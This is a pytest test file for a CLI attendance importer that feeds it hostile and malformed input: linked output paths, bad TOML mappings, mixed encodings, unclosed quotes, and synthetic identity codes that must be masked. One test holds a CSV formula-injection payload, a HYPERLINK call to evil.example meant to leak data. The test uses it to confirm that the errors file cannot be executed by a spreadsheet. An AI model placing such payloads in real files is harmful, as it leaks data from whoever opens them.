"""`jatkumo import` given hostile or careless input (attack, 2026-12-04): every mistake is one
usage error (exit 2) that says what to do, never a traceback, and no existing file is lost."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.test_cli import ROOT, cli

EXPORT = "client_id;contract_id;date;present\nc1;k1;6.5.2024;k\nc1;k1;7.5.2024;e\n"
KEPT = b'{"an earlier import": "kept"}\n'


def _export(tmp: Path, text: str = EXPORT) -> Path:
    export = tmp / "export.csv"
    export.write_text(text, encoding="utf-8")
    return export


def _import(export: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return cli("import", "attendance", str(export), "--source", "s", *args)


def _refused(done: subprocess.CompletedProcess[str], *words: str) -> None:
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    for w in words:
        assert w in done.stderr, done.stderr


@pytest.mark.parametrize("option", ["--out", "--errors"])
def test_a_hard_link_to_the_export_is_the_export(tmp_path: Path, option: str) -> None:
    """Before: --out hard-linked to the export emptied it; --errors wrote over it, exit 0."""
    export = _export(tmp_path)
    link = tmp_path / "link.txt"
    os.link(export, link)
    files = {"--out": str(tmp_path / "o.jsonl"), option: str(link)}
    done = _import(export, *(x for kv in files.items() for x in kv))
    _refused(done, f"the export and {option} name the same file")
    assert export.read_text(encoding="utf-8") == EXPORT


@pytest.mark.parametrize(("export_text", "mapping"), [
    (EXPORT, '[attendance]\ndate = "Päivä"\n'),  # names no column of the export
    ("client_id;date;date;present\nc1;6.5.2024;6.5.2024;k\n", None),  # a column twice
], ids=["bad-mapping", "duplicate-header"])
def test_a_refused_import_leaves_an_existing_out_and_errors_as_they_were(
        tmp_path: Path, export_text: str, mapping: str | None) -> None:
    """Before: --out was opened (emptied) before the export and its mapping were checked."""
    export = _export(tmp_path, export_text)
    out, errors = tmp_path / "keep.jsonl", tmp_path / "keep.txt"
    out.write_bytes(KEPT)
    errors.write_bytes(KEPT)
    args = ["--out", str(out), "--errors", str(errors)]
    if mapping is not None:
        (tmp_path / "m.toml").write_text(mapping, encoding="utf-8")
        args += ["--mapping", str(tmp_path / "m.toml")]
    _refused(_import(export, *args))
    assert out.read_bytes() == KEPT and errors.read_bytes() == KEPT
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


@pytest.mark.parametrize(("before", "after"), [(0o600, 0o600), (0o640, 0o600),
                                               (0o644, 0o600), (0o400, 0o400)])
def test_a_finished_import_keeps_its_users_mode_of_the_out_it_replaces(
        tmp_path: Path, before: int, after: int) -> None:
    """Review (2026-12-04): the replacement took the umask's mode, and a private --out of
    pseudonymised events became readable by every user. Attack (2026-12-05): the mode was
    kept whole, so an --out readable by all stayed so with the events in it."""
    out = tmp_path / "o.jsonl"
    out.write_bytes(KEPT)
    out.chmod(before)
    done = _import(_export(tmp_path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert out.stat().st_mode & 0o777 == after and len(out.read_text().splitlines()) == 2


def test_out_may_be_standard_output_as_a_pipe(tmp_path: Path) -> None:
    """Review (2026-12-04): /dev/stdout as a pipe resolves to a /proc name that does not
    exist, and the import refused to write there."""
    done = _import(_export(tmp_path), "--out", "/dev/stdout")
    assert done.returncode == 0, done.stderr
    assert [json.loads(x)["event_type"] for x in done.stdout.splitlines()] == [
        "attendance.recorded"] * 2


def test_a_finished_import_replaces_out_through_its_symlink(tmp_path: Path) -> None:
    export = _export(tmp_path)
    real, link = tmp_path / "real.jsonl", tmp_path / "link.jsonl"
    real.write_bytes(KEPT * 100)
    link.symlink_to(real.name)
    done = _import(export, "--out", str(link))
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and len(real.read_text().splitlines()) == 2
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


@pytest.mark.parametrize(("data", "words"), [
    (b'[attendance]\ndate = "D\xff"\n', "is not UTF-8 text"),
    (b"[attendance]\nx = " + b"[" * 5000 + b"]" * 5000 + b"\n", "nests arrays or tables"),
    (b"[attendance]\nx = " + b"9" * 5000 + b"\n", "cannot be read as TOML"),
    (b'[attendance.constants]\npresent = 1\n', "present in [attendance.constants] is a number"),
    (b'[attendance.constants]\ncontract_id = {a = 1}\n', "contract_id in [attendance.cons"),
    (b'[attendance]\ndate = ["date", "day"]\n', "date in [attendance] is an array"),
    (b'[attendance]\ndate = ""\n', "date in [attendance] is empty"),
    (b"#" * (2**20 + 1), "is larger than 1 MiB"),  # a log file named by mistake
], ids=["not-utf8", "deep", "huge-integer", "number-constant", "table-constant",
        "array-column", "empty-column", "huge-file"])
def test_a_mapping_that_cannot_be_used_is_named_with_what_is_wrong(
        tmp_path: Path, data: bytes, words: str) -> None:
    """Before: tracebacks (UnicodeDecodeError, RecursionError), or a constant of another type
    turned into text (`present = 1` became true) and an array into "finds no column"."""
    mapping = tmp_path / "m.toml"
    mapping.write_bytes(data)
    out = tmp_path / "o.jsonl"
    _refused(_import(_export(tmp_path), "--mapping", str(mapping), "--out", str(out)),
             str(mapping), words)
    assert not out.exists()


def test_a_mapping_saved_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    """Before: "Invalid statement", while a handoffs file with a BOM was taken."""
    mapping = tmp_path / "m.toml"
    mapping.write_bytes('\ufeff[attendance]\ndate = "Päivä"\n'.encode())
    export = _export(tmp_path, EXPORT.replace(";date;", ";Päivä;"))
    done = _import(export, "--mapping", str(mapping), "--out", str(tmp_path / "o.jsonl"))
    assert done.returncode == 0 and "2 events written" in done.stderr, done.stderr


@pytest.mark.parametrize("at", ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00",
                                "1800-01-01T00:00:00+00:00", "2100-12-31T23:00:00-02:00"])
def test_a_recorded_at_outside_the_years_of_events_is_one_usage_error(
        tmp_path: Path, at: str) -> None:
    """Before: an OverflowError near year 1 or 9999, every row a bad row for 1800."""
    out = tmp_path / "o.jsonl"
    _refused(_import(_export(tmp_path), "--recorded-at", at, "--out", str(out)),
             "--recorded-at", "1900-2100")
    assert not out.exists()


@pytest.mark.parametrize(("source", "words"), [
    (os.fsdecode(b"\xff\xfe"), "--source is not UTF-8"),
    ("paja-050395-912K", "holds an identity code"),
    ("paja-050395\u200b-912K", "holds an identity code"),  # as the door reads it (review)
], ids=["not-utf8", "identity-code", "hidden-code"])
def test_a_source_the_door_would_refuse_in_every_row_is_refused_once(
        tmp_path: Path, source: str, words: str) -> None:
    """Before: a TypeError traceback; a code gave identity_code_in_source on every row."""
    out = tmp_path / "o.jsonl"
    done = cli("import", "attendance", str(_export(tmp_path)), "--source", source,
               "--out", str(out))
    _refused(done, words)
    assert "050395-912K" not in done.stderr and not out.exists()


def test_empty_columns_at_the_end_of_the_header_are_dropped(tmp_path: Path) -> None:
    """Before: Excel's `present;;` was "the header names a column twice: [..., '', '']"."""
    export = _export(tmp_path, "client_id;contract_id;date;present;;\n"
                               "c1;k1;6.5.2024;k;;\n"
                               "c1;k1;7.5.2024;k\n"  # a row that stops early: as before
                               "c1;k1;8.5.2024;k;;x\n"  # line 4: a cell under no name
                               "c1;k1;9.5.2024;k;;;\n")  # line 5: more cells than the header
    out = tmp_path / "o.jsonl"
    done = _import(export, "--out", str(out))
    assert done.returncode == 0, done.stderr
    days = [json.loads(x)["payload"]["date"] for x in out.read_text().splitlines()]
    assert days == ["2024-05-06", "2024-05-07"]
    assert f"{export}:4: a cell under a column without a name" in done.stderr
    assert f"{export}:5: more cells than the header has columns" in done.stderr


@pytest.mark.parametrize("text", ["", "\ufeff\r\n  \n"], ids=["zero-bytes", "blank"])
def test_an_empty_export_is_called_empty(tmp_path: Path, text: str) -> None:
    """Before: "the header line has no ';', ',' or tab"."""
    _refused(_import(_export(tmp_path, text), "--out", "-"), "is empty")


def test_a_reader_that_stops_reading_standard_output_is_no_traceback(tmp_path: Path) -> None:
    """`--out - | head`: before, a BrokenPipeError traceback called a bug."""
    rows = "".join(f"c{i};k1;6.5.2024;k\n" for i in range(20_000))
    export = _export(tmp_path, "client_id;contract_id;date;present\n" + rows)
    env = {k: v for k, v in os.environ.items() if not k.startswith("JATKUMO_")}
    proc = subprocess.Popen([sys.executable, "-m", "services.cli", "import", "attendance",
                             str(export), "--source", "s", "--out", "-"], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # before the import writes its first line
    stderr = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 1
    assert "Traceback" not in stderr and "closed it" in stderr, stderr


# A hunt (2026-12-06): what a careless export or mapping did without a word.

CODE = "050395\u2013912K"  # a (synthetic) identity code written with an en dash, as Word does
MASK = "******-****"
HEADER = b"client_id;contract_id;date;present\n"


@pytest.mark.parametrize(("rows", "bad"), [
    # the code in a contract id, the stray byte on another line
    ([f"c1;Asiakas {CODE};1.2.2024;k".encode(), b"c2;K-2\x96b;2.2.2024;k"],
     "identity_code_in_payload.contract_id"),
    # the code in a date cell, which the reason quotes
    ([f"c1;K-1;{CODE};k".encode(), b"c2;K-2\x96b;2.2.2024;k"], f"'{MASK}' is not a date"),
    # the stray byte on the code's own line
    ([b"c1;K-1\x96b;" + CODE.encode() + b";k", b"c2;K-2;2.2.2024;k"], f"'{MASK}' is not a date"),
], ids=["contract-id", "date-cell", "same-line"])
def test_one_windows_1252_byte_leaves_an_identity_code_in_utf8_for_the_door(
        tmp_path: Path, rows: list[bytes], bad: str) -> None:
    """Before: one Windows-1252 byte had the whole UTF-8 file read as Windows-1252: every
    ä of it became `Ã¤`, and the en dash `â€“`, which no one read as a code: written into
    the events (exit 0), or on stderr and in --errors as it was."""
    export = tmp_path / "export.csv"
    export.write_bytes(HEADER + b"\n".join(rows) + "\nc3;K-3;31.2.2024;k\n"
                       "c4;Kesä 2024;3.2.2024;kyllä\n".encode())
    out, errors = tmp_path / "o.jsonl", tmp_path / "e.csv"
    done = _import(export, "--out", str(out), "--errors", str(errors))
    assert done.returncode == 0, done.stderr
    written = out.read_text(encoding="utf-8") + done.stderr + errors.read_text(encoding="utf-8")
    assert "050395" not in written and "912K" not in written, written
    assert f"{export}:2: {bad}" in done.stderr  # the line numbers are the file's
    assert f"{export}:4: '31.2.2024' is not a day of the calendar" in done.stderr
    events = [json.loads(x) for x in out.read_text().splitlines()]
    assert [(e["client_id"], e["payload"]["contract_id"]) for e in events] == [
        ("c2", rows[1].split(b";")[1].decode("cp1252")), ("c4", "Kesä 2024")]
    assert "(utf-8, windows-1252 on line" in done.stderr
    assert "2 events written, 2 bad rows" in done.stderr


def test_a_line_that_shows_a_code_only_in_utf8_is_read_so_when_no_other_line_is() -> None:
    """The stray byte on the code's line, and no other line of more than ASCII to tell that
    the file is UTF-8: Windows-1252 hid the code (`050395â€“912K`) from anyone reading for
    one; the reading that shows it is the one the door is given."""
    from services.importer.table import decode

    text, _ = decode(HEADER + b"c1;K-1\x96b;Asiakas " + CODE.encode() + b";k\n")
    assert f"K-1\u2013b;Asiakas {CODE};k" in text, text


def test_a_file_of_windows_1252_is_read_as_windows_1252(tmp_path: Path) -> None:
    export = tmp_path / "export.csv"
    export.write_bytes(HEADER + "c1;Kesä–Syys;1.2.2024;kyllä\n".encode("cp1252"))
    out = tmp_path / "o.jsonl"
    done = _import(export, "--out", str(out))
    assert done.returncode == 0 and "(windows-1252, ';')" in done.stderr, done.stderr
    assert json.loads(out.read_text())["payload"]["contract_id"] == "Kesä–Syys"


def test_a_byte_order_mark_before_windows_1252_is_no_column_name(tmp_path: Path) -> None:
    """Before: the BOM was read as Windows-1252 with the rest, and the mapping was blamed for
    a column 'ï»¿client_id'."""
    export = tmp_path / "export.csv"
    export.write_bytes(b"\xef\xbb\xbf" + HEADER + b"c1;K-\xc4;1.2.2024;k\n")
    out = tmp_path / "o.jsonl"
    done = _import(export, "--out", str(out))
    assert done.returncode == 0, done.stderr
    event = json.loads(out.read_text())
    assert (event["client_id"], event["payload"]["contract_id"]) == ("c1", "K-\u00c4")


@pytest.mark.parametrize(("text", "line"), [
    ('c0;"K-0;1.2.2024;k\n' + "".join(f"c{i};K-{i};{i}.2.2024;k\n" for i in range(1, 51)), 2),
    ('c1;K-1;1.2.2024;k\nc2;"K-2\nb";2.2.2024;k\nc3;K-3;3.2.2024;"k\nc4;K-4;4.2.2024;k\n', 5),
    # a row of two lines (3 and 4) whose second quoted cell opens on line 4
    ('c1;K-1;1.2.2024;k\nc2;"K-2\nb";"2.2.2024;k\nc3;K-3;3.2.2024;k\n', 4),
    ('c1;K-1;1.2.2024;k\nc2;K-2;2.2.2024;"k""\n', 3),  # the last quote is one of the cell
], ids=["fifty-rows-after", "after-a-cell-of-two-lines", "in-a-row-of-two-lines",
        "doubled-quote"])
def test_a_quote_never_closed_is_a_usage_error_that_names_its_line(
        tmp_path: Path, text: str, line: int) -> None:
    """Before: the rest of the file was one cell: `:2: '' is not a date`, "1 rows", and the
    50 rows after it lost without a word. Where the cell was to end no one can tell: the
    import stops rather than guess, and once corrected it is taken again at no cost."""
    export = _export(tmp_path, "client_id;contract_id;date;present\n" + text)
    out = tmp_path / "o.jsonl"
    _refused(_import(export, "--out", str(out)),
             f"{export}:{line}: a quote opened on line {line} is never closed")
    assert not out.exists()


def test_a_quote_closed_on_a_later_line_makes_a_bad_row_not_a_lost_one(tmp_path: Path) -> None:
    """Before: row 3 went into the contract id of row 2 (`K-0;1.2.2024;k\\nc1;K-1`), and the
    import said "2 events written, 0 bad rows"."""
    export = _export(tmp_path, 'client_id;contract_id;date;present\n'
                               'c0;"K-0;1.2.2024;k\nc1;K-1";2.2.2024;k\nc2;K-2;3.2.2024;k\n')
    out = tmp_path / "o.jsonl"
    done = _import(export, "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert f"{export}:2: the contract_id cell runs over a line end" in done.stderr
    assert [json.loads(x)["client_id"] for x in out.read_text().splitlines()] == ["c2"]


CONTRACTS = ("client_id;contract_id;service;organizer;producer_id;producer_kind;"
             "producer_municipality;start_date;Loppupäivä;Syy\n"
             "c1;K-1;KTT;municipality:564;paja-1;municipal;564;1.9.2022;31.12.2022;completed\n")
TWO_DATES = "client_id;contract_id;date;Paiva;present\nc1;K-1;1.1.2024;5.1.2024;k\n"


@pytest.mark.parametrize(("kind", "export_text", "mapping", "words"), [
    ("contracts", CONTRACTS, '[contracts]\nend_date = "Loppupaiva"\nend_reason = "Syy"\n',
     ["end_date = 'Loppupaiva'", "did you mean 'Loppupäivä'"]),
    ("attendance", TWO_DATES, '[attendence]\ndate = "Paiva"\n',
     ["[attendence]", "did you mean [attendance]"]),
    ("attendance", TWO_DATES, 'date = "Paiva"\n', ["date outside a table"]),
    ("attendance", TWO_DATES, '[contracts]\nstart_date = "Alkaa"\n', ["no [attendance] table"]),
    ("attendance", TWO_DATES, '[attendance]\ndate = "Paiva"\n[attendance.constants]\n'
     'date = "9.9.2024"\n', ["date in both [attendance] and [attendance.constants]"]),
], ids=["misspelt-column", "misspelt-table", "outside-a-table", "no-table-of-the-kind",
        "column-and-constant"])
def test_a_mapping_mistake_is_a_usage_error_not_passed_over(
        tmp_path: Path, kind: str, export_text: str, mapping: str, words: list[str]) -> None:
    """Before: each was taken with exit 0: the misspelt column left out with its field (no
    contract.ended), the misspelt table left for the default mapping (the date from `date`,
    not `Paiva`), the constant taken over the column."""
    export = _export(tmp_path, export_text)
    (tmp_path / "m.toml").write_text(mapping, encoding="utf-8")
    out = tmp_path / "o.jsonl"
    done = cli("import", kind, str(export), "--source", "s", "--mapping",
               str(tmp_path / "m.toml"), "--out", str(out))
    _refused(done, str(tmp_path / "m.toml"), *words)
    assert not out.exists()


def test_an_export_with_both_client_columns_says_so_and_a_mapping_picks_one(
        tmp_path: Path) -> None:
    """Before: "finds no column for client_id or client_hetu", both being there."""
    export = _export(tmp_path, "client_id;client_hetu;contract_id;date;present\n"
                               "c1;131052-308T;K-1;1.1.2024;k\n")
    out = tmp_path / "o.jsonl"
    done = _import(export, "--out", str(out))
    _refused(done, "both client_id (column 'client_id') and client_hetu", "--mapping",
             'client_id = "client_id"')
    assert "finds no column" not in done.stderr and "131052-308T" not in done.stderr
    (tmp_path / "m.toml").write_text('[attendance]\nclient_id = "client_id"\n')
    done = _import(export, "--mapping", str(tmp_path / "m.toml"), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert json.loads(out.read_text())["client_id"] == "c1"
    assert "131052-308T" not in out.read_text()


def test_the_errors_file_is_csv_that_no_spreadsheet_runs(tmp_path: Path) -> None:
    """Before: `line;reason` as it was: the reason quotes the cell, and the `;` in it opened
    a cell `=HYPERLINK("http://evil.example/?leak","click")` in Excel; a reason with a `;`
    had more cells than two."""
    export = _export(tmp_path, 'client_id;contract_id;date;present\nc1;K-1;'
                               '"x;=HYPERLINK(""http://evil.example/?leak"",""click"");";k\n'
                               "c1;K-1;+1;k\n")
    errors = tmp_path / "e.csv"
    done = _import(export, "--out", str(tmp_path / "o.jsonl"), "--errors", str(errors))
    assert done.returncode == 0, done.stderr
    text = errors.read_text(encoding="utf-8")
    for cell in (c.strip('"') for line in text.splitlines() for c in line.split(";")):
        assert not cell.startswith(("=", "+", "-", "@")), text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [len(r) for r in rows] == [2, 2] and [r[0] for r in rows] == ["2", "3"], rows
    assert 'HYPERLINK("http://evil.example/?leak","click")' in rows[0][1]
    assert "is not a date" in rows[1][1]


def test_errors_dash_is_standard_output_as_for_out(tmp_path: Path) -> None:
    """Before: --errors - wrote a file named `-`, where --out - is standard output."""
    export = _export(tmp_path, EXPORT + "c1;k1;99.5.2024;k\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("JATKUMO_")}
    env["PYTHONPATH"] = str(ROOT)

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "services.cli", "import", "attendance",
                               export.name, "--source", "s", *args], capture_output=True,
                              text=True, cwd=tmp_path, env=env, timeout=120)

    done = run("--out", "o.jsonl", "--errors", "-")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "4;'99.5.2024' is not a day of the calendar\n"
    assert not (tmp_path / "-").exists() and len((tmp_path / "o.jsonl").read_text().split()) == 2
    both = run("--out", "-", "--errors", "-")
    _refused(both, "both name standard output")
    assert both.stdout == "" and not (tmp_path / "-").exists()
